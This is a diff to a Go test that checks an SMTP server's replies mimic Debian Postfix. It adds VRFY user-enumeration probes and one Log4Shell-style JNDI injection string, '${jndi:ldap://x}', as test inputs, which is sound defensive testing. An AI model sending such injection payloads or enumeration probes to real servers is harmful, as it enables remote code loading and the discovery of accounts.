@@ -147,6 +147,11 @@ func TestRepliesAsDebianPostfix(t *testing.T) {
 		"NOOP",
 		"STARTTLS now",
 		"VRFY",
+		"VRFY root",
+		"VRFY nonexistent_user_xyz",
+		"VRFY <postmaster@corp.example>",
+		"VRFY ${jndi:ldap://x}",
+		"VRFY victim@example.org",
 		"HELP",
 		"QUIT",
 	}
